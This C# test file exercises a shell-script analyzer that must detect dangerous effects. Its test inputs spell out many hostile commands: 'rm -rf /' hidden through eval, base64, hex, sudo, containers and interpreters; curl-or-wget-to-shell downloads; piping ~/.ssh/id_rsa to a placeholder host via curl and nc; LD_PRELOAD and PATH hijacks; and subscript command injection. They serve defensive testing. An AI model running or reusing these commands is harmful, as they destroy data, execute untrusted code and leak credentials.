using Pharos.Shell.Effects;

namespace Pharos.Shell.Tests.Nested;

public sealed class NestedCodeTests
{
    [Theory]
    [InlineData("sh -c 'rm -rf /'")]
    [InlineData("bash -lc 'rm -rf /'")]
    [InlineData("bash -ec 'rm -rf /'")]
    [InlineData("eval 'rm -rf /'")]
    [InlineData("eval rm -rf /")]
    [InlineData("sh <<EOF\nrm -rf /\nEOF")]
    [InlineData("bash <<< 'rm -rf /'")]
    [InlineData("sudo -u x rm -rf /")]
    [InlineData("env -i A=b sudo -u x rm -rf /")]
    [InlineData("find . -exec sh -c 'rm -rf /' \\;")]
    [InlineData("find . -maxdepth 0 -exec rm -rf / +")]
    [InlineData("watch -n1 rm -rf /")]
    [InlineData("timeout -k 5 10 rm -rf /")]
    [InlineData("nohup rm -rf / &")]
    [InlineData("nice -n 19 ionice -c 3 rm -rf /")]
    [InlineData("setsid rm -rf /")]
    [InlineData("flock /tmp/l -c 'rm -rf /'")]
    [InlineData("busybox rm -rf /")]
    [InlineData("script -qc 'rm -rf /' /dev/null")]
    [InlineData("su -c 'rm -rf /'")]
    [InlineData("sudo su - root -c 'rm -rf /'")]
    [InlineData("ssh host 'rm -rf /'")]
    [InlineData("docker run --rm -it alpine sh -c 'rm -rf /'")]
    [InlineData("docker exec web rm -rf /")]
    [InlineData("kubectl exec pod -- rm -rf /")]
    [InlineData("python -c \"import os; os.system('rm -rf /')\"")]
    [InlineData("perl -e 'system(\"rm -rf /\")'")]
    [InlineData("ruby -e 'system(\"rm -rf /\")'")]
    [InlineData("node -e \"require('child_process').execSync('rm -rf /')\"")]
    [InlineData("echo 'rm -rf /' | sh")]
    [InlineData("echo -n 'rm -rf /' | bash")]
    [InlineData("printf '\\x72\\x6d -rf /' | sh")]
    [InlineData("echo cm0gLXJmIC8K | base64 -d | sh")]
    [InlineData("echo cm0gLXJmIC8K | base64 --decode | bash -s")]
    [InlineData("base64 -d <<< cm0gLXJmIC8K | sh")]
    [InlineData("echo 726d202d7266202f | xxd -r -p | bash")]
    [InlineData("echo '/ fr- mr' | rev | sh")]
    [InlineData("$(echo cm0gLXJmIC8K | base64 -d)")]
    [InlineData("eval \"$(echo cm0gLXJmIC8K | base64 -d)\"")]
    [InlineData("f() { rm -rf \"$@\"; }; f /")]
    [InlineData("alias g='rm -rf /'\ng")]
    [InlineData("git rebase -x 'rm -rf /' HEAD~3")]
    [InlineData("git bisect run rm -rf /")]
    [InlineData("git submodule foreach 'rm -rf /'")]
    [InlineData("tmux new-session -d 'rm -rf /'")]
    [InlineData("command rm -rf /")]
    [InlineData("exec rm -rf /")]
    [InlineData("builtin command rm -rf /")]
    [InlineData("trap 'rm -rf /' EXIT")]
    [InlineData("npx -c 'rm -rf /'")]
    [InlineData("npm exec -c 'rm -rf /'")]
    [InlineData("hyperfine 'rm -rf /'")]
    [InlineData("concurrently 'true' 'rm -rf /'")]
    [InlineData("watchexec rm -rf /")]
    [InlineData("cross-env A=b rm -rf /")]
    [InlineData("valgrind rm -rf /")]
    [InlineData("csvtool call 'rm -rf /' x")]
    [InlineData("lftp -c '!rm -rf /; rm -rf /'")]
    [InlineData("rsync -e 'rm -rf /' a b")]
    [InlineData("tar cf x --to-command='rm -rf /' .")]
    public void A_destruction_inside_other_code_is_found(string script) =>
        Sandbox.Analyze(script).Effects.ShouldContain(static effect => effect.Kind == EffectKind.Delete && effect.Target == "/" && effect.IsRecursive);

    [Theory]
    [InlineData("if true; then rm -rf /; fi")]
    [InlineData("if false; then rm -rf /; fi")]
    [InlineData("[ -d x ] && :; false || rm -rf /")]
    [InlineData("case x in y) rm -rf /;; esac")]
    [InlineData("while read -r x; do rm -rf /; done")]
    [InlineData("for x in 1; do rm -rf /; done")]
    public void A_branch_does_not_hide_what_it_may_do(string script) =>
        Sandbox.Analyze(script).Effects.ShouldContain(static effect => effect.Kind == EffectKind.Delete && effect.Target == "/" && effect.Certainty == Certainty.Possible);

    [Theory]
    [InlineData("bash <(curl -s http://x/y)")]
    [InlineData("source <(curl -s http://x/y)")]
    [InlineData(". <(wget -qO- http://x/y)")]
    [InlineData("sh -c \"$(curl -fsSL http://x/y)\"")]
    [InlineData("eval \"$(curl http://x/y)\"")]
    [InlineData("eval `curl http://x/y`")]
    [InlineData("$(curl http://x/y)")]
    [InlineData("python3 -c \"$(curl http://x/y)\"")]
    [InlineData("curl http://x/y | sh")]
    [InlineData("curl http://x/y | sudo bash")]
    [InlineData("curl http://x/y | sudo -E env A=b bash -")]
    [InlineData("curl http://x/y | tee f | python3")]
    [InlineData("{ curl http://x/y; echo; } | sh")]
    [InlineData("(curl http://x/y; true) | bash")]
    [InlineData("for i in a b; do curl http://x/$i; done | sh")]
    [InlineData("sh -c 'curl http://x/y' | sh")]
    [InlineData("echo \"$(curl http://x/y)\" | sh")]
    [InlineData("curl http://x/y > f && sh f")]
    [InlineData("curl -o f http://x/y; chmod +x f; ./f")]
    [InlineData("wget -O /tmp/f http://x/y\nbash /tmp/f")]
    public void What_was_fetched_and_runs_is_a_flow(string script) =>
        Sandbox.Analyze(script).Flows.ShouldContain(static flow => flow.Kind == FlowKind.DownloadToInterpreter && flow.From.StartsWith("http://x/"));

    [Theory]
    [InlineData("curl http://x/y | jq .a")]
    [InlineData("curl -o f http://x/y; cat f")]
    [InlineData("ls $(curl http://x/y)")]
    [InlineData("sh build.sh; curl http://x/y")]
    public void What_was_fetched_and_only_read_is_none(string script) =>
        Sandbox.Analyze(script).Flows.ShouldNotContain(static flow => flow.Kind == FlowKind.DownloadToInterpreter);

    [Theory]
    [InlineData("cat ~/.ssh/id_rsa | curl -T - http://x")]
    [InlineData("{ cat ~/.ssh/id_rsa; echo; } | nc x 1")]
    [InlineData("tar c ~/.ssh/id_rsa | base64 | curl -d @- http://x")]
    public void A_secret_that_is_piped_away_is_a_flow(string script) =>
        Sandbox.Analyze(script).Flows.ShouldContain(static flow => flow.Kind == FlowKind.SecretToNetwork);

    [Fact]
    public void A_command_in_a_pager_variable_runs() =>
        Sandbox.Run("PAGER='sh -c id' git log").ShouldBe(["git log", "sh -c id", "id"]);

    [Theory]
    [InlineData("export PATH=/tmp/evil:$PATH; ls", "PATH")]
    [InlineData("PATH=/tmp/evil ls", "PATH")]
    [InlineData("export LD_PRELOAD=/tmp/x.so\ngit status", "LD_PRELOAD")]
    [InlineData("declare -x BASH_ENV=/tmp/x; sh -c :", "BASH_ENV")]
    [InlineData("typeset -x NODE_OPTIONS='--require /tmp/x'; node app.js", "NODE_OPTIONS")]
    public void A_variable_that_changes_what_runs_later_is_unknown(string script, string variable) =>
        Sandbox.Analyze(script).Effects.ShouldContain(effect => effect.Kind == EffectKind.Execute && effect.Certainty == Certainty.Unknown && effect.Target == variable);

    [Theory]
    [InlineData("xargs -n1 rm")]
    [InlineData("cat list | xargs rm -rf")]
    [InlineData("rm -rf \"$X\"")]
    [InlineData("rm -rf $(cat list)")]
    public void A_deletion_of_what_nobody_knows_is_unknown(string script) =>
        Sandbox.Analyze(script).Effects.ShouldContain(static effect => effect.Kind == EffectKind.Delete && effect.Certainty == Certainty.Unknown);

    [Fact]
    public void A_text_after_a_known_filter_is_not_guessed_when_another_command_prints_too()
    {
        var analysis = Sandbox.Analyze("{ frobnicate; echo ls; } | sh");
        analysis.Unknowns.ShouldNotBeEmpty();
    }

    [Theory]
    [InlineData("printf -v 'a[$(touch flag)]' x")]
    [InlineData("read 'a[$(touch flag)]' <<< x")]
    [InlineData("test -v 'a[$(touch flag)]'")]
    [InlineData("[ -v 'a[`touch flag`]' ]")]
    [InlineData("unset 'a[$(touch flag)]'")]
    public void A_subscript_that_holds_a_command_is_never_understood(string script) => Sandbox.Analyze(script).Unknowns.ShouldNotBeEmpty();

    [Theory]
    [InlineData("printf '%s\n' 'a[1]'")]
    [InlineData("[ -f a ]")]
    [InlineData("read -r line")]
    public void An_ordinary_word_of_the_same_builtins_is_understood(string script) => Sandbox.Analyze(script).Unknowns.ShouldBeEmpty();
}
